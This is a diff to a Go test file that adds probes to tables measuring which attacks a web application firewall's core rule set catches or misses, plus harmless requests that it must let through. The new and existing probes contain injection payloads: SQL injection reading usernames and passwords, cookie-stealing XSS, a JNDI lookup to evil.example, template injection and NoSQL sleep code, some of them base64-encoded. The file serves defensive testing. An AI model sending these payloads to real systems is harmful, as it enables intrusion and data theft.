@@ -102,6 +102,7 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "NoSQL $expr in JSON", method: "POST", path: "/find", contentType: js, body: `{"$expr": {"$function": {"body": "function() { sleep(5000); return true }", "args": [], "lang": "js"}}}`},
 		{name: "NoSQL $accumulator", method: "POST", path: "/find", contentType: js, body: `{"group": {"$accumulator": {"init": "function() { return 1 }"}}}`},
 		{name: "NoSQL $where in a string of JSON", method: "POST", path: "/find", contentType: js, body: `{"q": "{\"$where\": \"sleep(5000)\"}"}`},
+		{name: "JSON sent as text/plain, template in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"name": "{{7*7}}"}`},
 		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
 	}
 	crsMisses = []probe{
@@ -119,6 +120,9 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
 		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
 		{name: "jndi lookup in base64", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}`},
+		{name: "JSON sent as text/plain, base64 SQLi in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
+		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
+		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
 		// NoSQL
 		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
 		// pattern does not start on
@@ -172,6 +176,9 @@ func benignTable() []probe {
 			body: `{"name": "x.png", "content": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`},
 		{name: "words and spaces only (base64's alphabet once the spaces are gone)", method: "POST", path: "/api/notes", contentType: js,
 			body: `{"text": "Lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore"}`},
+		{name: "JSON sent as text/plain", method: "POST", path: "/api/notes", contentType: "text/plain; charset=utf-8",
+			body: `{"title": "Grüße", "content": "` + b64("Hello, world! This is a plain text file.") + `", "tags": [], "n": 2}`},
+		{name: "plain text that starts with a brace", method: "POST", path: "/api/notes", contentType: "text/plain", body: "{not json} just a note"},
 		{name: "hex ids and long words", method: "GET", path: "/objects?id=5f2b9c3e8a1d4e6f7a8b9c0d&name=Donaudampfschifffahrt&sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
 		{name: "a form with a percent sign", method: "POST", path: "/api/discount", contentType: form, body: "code=SAVE20&note=" + q("20% off, 100% cotton")},
 		{name: "multipart text with non-ASCII and an apostrophe", method: "POST", path: "/upload", contentType: mpType, body: mp},
